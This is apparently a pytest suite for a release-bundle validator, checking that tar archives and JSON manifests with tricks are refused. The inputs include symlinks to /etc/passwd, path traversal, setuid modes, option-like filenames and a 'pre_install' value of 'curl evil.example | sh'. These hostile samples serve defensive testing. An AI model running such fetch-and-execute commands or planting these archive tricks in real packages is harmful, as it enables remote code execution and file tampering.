from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from release.archive import header
from release.bundle import check_bundle, write_bundle
from release.manifest import MANIFEST, read_manifest
from release.refusals import Refusal, ReleaseRefusedError
from tests.release.repository import bundle_of, manifest_of, wheels_in


def refused(data: bytes) -> str:
    with pytest.raises(ReleaseRefusedError) as raised:
        check_bundle(io.BytesIO(data))
    assert raised.value.reason is Refusal.BAD_BUNDLE
    return str(raised.value)


def test_a_bundle_is_what_its_manifest_says_and_always_the_same_bytes(tmp_path: Path) -> None:
    data = bundle_of(tmp_path)
    assert check_bundle(io.BytesIO(data)) == manifest_of(tmp_path)
    assert bundle_of(tmp_path) == data


def test_other_programs_read_it_too(tmp_path: Path) -> None:
    with tarfile.open(fileobj=io.BytesIO(bundle_of(tmp_path))) as archive:
        names = archive.getnames()
        assert names == [MANIFEST, *sorted(each.name for each in tmp_path.iterdir())]
        last = archive.extractfile(names[-1])
        assert last is not None and last.read() == (tmp_path / names[-1]).read_bytes()


def test_what_the_library_writes_of_plain_files_is_read(tmp_path: Path) -> None:
    """With its defaults, and whatever time a file has."""
    wheels = wheels_in(tmp_path)
    manifest = bundle_of(wheels)[512:]
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        text = manifest[: manifest.index(b"\0")]
        for name, data in [
            (MANIFEST, text),
            *((p.name, p.read_bytes()) for p in sorted(wheels.iterdir())),
        ]:
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
    assert check_bundle(io.BytesIO(out.getvalue())) == manifest_of(wheels)


def _member(**fields: object) -> Callable[[tarfile.TarInfo], None]:
    def change(info: tarfile.TarInfo) -> None:
        for name, value in fields.items():
            setattr(info, name, value)

    return change


TRICKS = {
    "a link": _member(type=tarfile.LNKTYPE, linkname="manifest.json", size=0),
    "a symbolic link": _member(type=tarfile.SYMTYPE, linkname="/etc/passwd", size=0),
    "a device": _member(type=tarfile.BLKTYPE, size=0),
    "a pipe": _member(type=tarfile.FIFOTYPE, size=0),
    "a folder": _member(type=tarfile.DIRTYPE, size=0),
    "the old form of a plain file": _member(type=tarfile.AREGTYPE),
    "a sparse file": _member(type=tarfile.GNUTYPE_SPARSE),
    "an extended header": _member(pax_headers={"comment": "x"}),
    "an extended header that renames": _member(pax_headers={"path": "../x.whl"}),
    "another owner": _member(uid=1000),
    "a file that runs as its owner": _member(mode=0o4755),
    "a path": _member(name="a/b-1.0-py3-none-any.whl"),
    "a path upwards": _member(name="../part0-1.0-py3-none-any.whl"),
    "an absolute path": _member(name="/part0-1.0-py3-none-any.whl"),
    "an option": _member(name="-e-1.0-py3-none-any.whl"),
    "a hidden file": _member(name=".part0-1.0-py3-none-any.whl"),
    "a long name": _member(name=f"{'x' * 101}-1.0-py3-none-any.whl"),
    "a name that is no ASCII": _member(name="pärt0-1.0-py3-none-any.whl"),
}


@pytest.mark.parametrize("trick", TRICKS)
@pytest.mark.parametrize("form", [tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT])
def test_an_archive_of_any_other_form_is_refused(trick: str, form: int, tmp_path: Path) -> None:
    out = io.BytesIO()
    data = bundle_of(tmp_path)
    with (
        tarfile.open(fileobj=io.BytesIO(data)) as whole,
        tarfile.open(fileobj=out, mode="w", format=form) as archive,
    ):
        for info in whole.getmembers():
            content = whole.extractfile(info)
            if info.name.startswith("part0"):
                TRICKS[trick](info)
            try:
                archive.addfile(info, content)
            except (ValueError, UnicodeEncodeError):
                return  # that form has no words for it
    if out.getvalue()[: len(data) - 1024] != data[:-1024]:  # else that form leaves it out
        refused(out.getvalue())


def test_the_form_of_gnu_is_refused(tmp_path: Path) -> None:
    data = bundle_of(tmp_path)
    assert data[257:265] == b"ustar\x0000"
    refused(data[:257] + b"ustar  \x00" + data[265:])


@pytest.mark.parametrize("size", ["-1", "99999999999", "0x10", " 7", "7"])
def test_a_size_is_eleven_octal_digits(size: str, tmp_path: Path) -> None:
    data = bundle_of(tmp_path)
    refused(data[:124] + size.encode().ljust(12, b"\0") + data[136:])
    refused(data[:124] + b"\x80" + b"\0" * 10 + b"\x01" + data[136:])  # the binary form


def test_an_archive_that_ends_early_or_late_is_refused(tmp_path: Path) -> None:
    data = bundle_of(tmp_path)
    for length in (0, 1, 511, 512, 600, 2048, len(data) - 1024, len(data) - 513, len(data) - 1):
        refused(data[:length])
    for more in (b"x", bytes(511), bytes(511) + b"x", data, bytes(512 * 40)):
        refused(data + more)
    refused(data[:-1024] + header("more.whl", 0, 0) + bytes(1024))


def test_nothing_hides_in_the_filling_between_files(tmp_path: Path) -> None:
    data = bytearray(bundle_of(tmp_path))
    text = data[512 : data.index(0, 512)]
    data[512 + len(text) + 3] = 1
    assert "hidden" in refused(bytes(data))


def test_each_wheel_is_the_one_of_the_manifest(tmp_path: Path) -> None:
    data = bytearray(bundle_of(tmp_path))
    data[data.index(b"A" * 100)] = 66
    assert "not the file of the manifest" in refused(bytes(data))


def test_the_wheels_are_those_of_the_manifest_in_their_order(tmp_path: Path) -> None:
    wheels = wheels_in(tmp_path)
    whole = bundle_of(tmp_path)
    first = whole.index(b"part0-1.0", 1024)
    second = whole.index(b"part1-1.0", first)
    assert first % 512 == second % 512 == 0
    head, one, two = whole[:first], whole[first:second], whole[second:-1024]
    for wrong in (head, head + one, head + two + one, head + one + one, head + one + two + two):
        refused(wrong + bytes(1024))
    assert check_bundle(io.BytesIO(head + one + two + bytes(1024))) == manifest_of(wheels)


BAD_MANIFESTS: dict[str, dict[str, object]] = {
    "another program": {"name": "miner-cloud"},
    "no version": {"version": "latest"},
    "a version of a path": {"version": "../1.0"},
    "a line after the version": {"version": "1.0\n"},
    "no platform": {"platform": "deb12"},
    "an architecture that is not built": {"platform": "deb12_armhf"},
    "another Python": {"python": "2.7"},
    "no time": {"built_at": "yesterday"},
    "a time of nowhere": {"built_at": "2026-11-30T12:00:00"},
    "a number as text": {"journal_schema": {"reads": ["7"], "writes": 7}},
    "a journal that it cannot read": {"journal_schema": {"reads": [6], "writes": 7}},
    "no journal": {"journal_schema": {"reads": [], "writes": 7}},
    "too many numbers": {"link": list(range(65))},
    "a number out of all bounds": {"link": [10**9]},
    "no wheels": {"wheels": []},
    "a field that is not known": {"pre_install": "curl evil.example | sh"},
    "nothing": {"wheels": None},
}


@pytest.mark.parametrize("name", BAD_MANIFESTS)
def test_a_bad_manifest_is_refused(name: str, tmp_path: Path) -> None:
    said = manifest_text(tmp_path) | BAD_MANIFESTS[name]
    with pytest.raises(ReleaseRefusedError) as raised:
        read_manifest(json.dumps(said).encode())
    assert raised.value.reason is Refusal.BAD_BUNDLE


@pytest.mark.parametrize(
    "wheel",
    [
        {"file": "../part0-1.0-py3-none-any.whl"},
        {"file": "/part0-1.0-py3-none-any.whl"},
        {"file": "-r-1.0-py3-none-any.whl"},
        {"file": "part0.tar.gz"},
        {"file": "part0-1.0-py3-none-any.whl\n"},
        {"file": f"{'x' * 100}-1.0-py3-none-any.whl"},
        {"sha256": "0" * 63},
        {"sha256": "G" * 64},
        {"size": 0},
        {"size": -1},
        {"size": 2**40},
        {"size": True},
        {"mode": 493},
    ],
    ids=str,
)
def test_a_bad_wheel_is_refused(wheel: dict[str, object], tmp_path: Path) -> None:
    said = manifest_text(tmp_path)
    said["wheels"][0] |= wheel
    with pytest.raises(ReleaseRefusedError):
        read_manifest(json.dumps(said).encode())


def test_a_wheel_is_named_once(tmp_path: Path) -> None:
    said = manifest_text(tmp_path)
    twice = dict(said["wheels"][0], file="Part0-1.0-py3-none-any.whl")
    said["wheels"].append(twice)
    with pytest.raises(ReleaseRefusedError, match="twice"):
        read_manifest(json.dumps(said).encode())


def test_a_manifest_is_bounded() -> None:
    with pytest.raises(ReleaseRefusedError, match="bytes"):
        read_manifest(b" " * (128 * 1024 + 1))
    for text in (b"", b"{", b"[" * 60_000, b'{"name":' * 9_000, b"\xff" * 40, b"null"):
        with pytest.raises(ReleaseRefusedError):
            read_manifest(text)


def test_a_bundle_that_nobody_would_take_is_not_written(tmp_path: Path) -> None:
    wheels = wheels_in(tmp_path)
    manifest = manifest_of(wheels)
    (wheels / manifest.wheels[0].file).write_bytes(b"another")
    with pytest.raises(ReleaseRefusedError):
        write_bundle(io.BytesIO(), manifest, wheels)


def manifest_text(folder: Path) -> dict:
    data = bundle_of(folder)
    return json.loads(data[512 : data.index(0, 512)])
